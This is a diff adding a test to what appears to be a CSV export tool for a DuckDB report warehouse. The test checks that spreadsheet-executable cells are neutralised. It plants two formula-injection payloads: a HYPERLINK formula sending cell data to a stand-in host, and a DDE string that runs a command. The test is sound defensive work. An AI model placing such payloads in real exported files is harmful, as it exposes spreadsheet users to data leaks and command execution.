@@ -44,3 +44,30 @@ def test_unknown_format_is_refused(fazhi_cli, multi_year_warehouse: Path, tmp_pa
     proc = fazhi_cli("export", "--format", fmt, str(tmp_path / "x"), "--db", str(multi_year_warehouse))
     assert proc.returncode == 2 and "parquet, csv" in proc.stderr
     assert not (tmp_path / "x").exists()
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_made_inert(fazhi_cli, multi_year_warehouse: Path, tmp_path: Path):
+    import shutil
+
+    import duckdb
+
+    db = tmp_path / "w.duckdb"
+    shutil.copy(multi_year_warehouse, db)
+    evil_name = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
+    con = duckdb.connect(str(db))
+    [(report_id,)] = con.sql("SELECT report_id FROM reports WHERE is_current ORDER BY report_id LIMIT 1").fetchall()
+    con.execute("UPDATE reports SET file_name = ? WHERE report_id = ?", [evil_name, report_id])
+    con.execute("UPDATE metrics SET evidence = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE report_id = ?", [report_id])
+    con.close()
+    out = tmp_path / "csv"
+    assert fazhi_cli("export", "--format", "csv", str(out), "--db", str(db)).returncode == 0
+    with (out / "reports.csv").open(encoding="utf-8-sig", newline="") as fh:
+        names = {r["report_id"]: r["file_name"] for r in csv.DictReader(fh)}
+    with (out / "metrics.csv").open(encoding="utf-8-sig", newline="") as fh:
+        evidence = {r["evidence"] for r in csv.DictReader(fh) if r["report_id"] == report_id}
+    assert names[report_id] == "'" + evil_name
+    assert evidence == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
+    assert not any(v.startswith(("=", "+", "-", "@")) for v in names.values())
+    sql = fazhi_cli("sql", f"SELECT file_name FROM reports WHERE report_id = '{report_id}'", "--db", str(db),
+                    "--format", "csv")
+    assert sql.stdout.splitlines()[1:] == ["\"'" + evil_name.replace('"', '""') + '"']
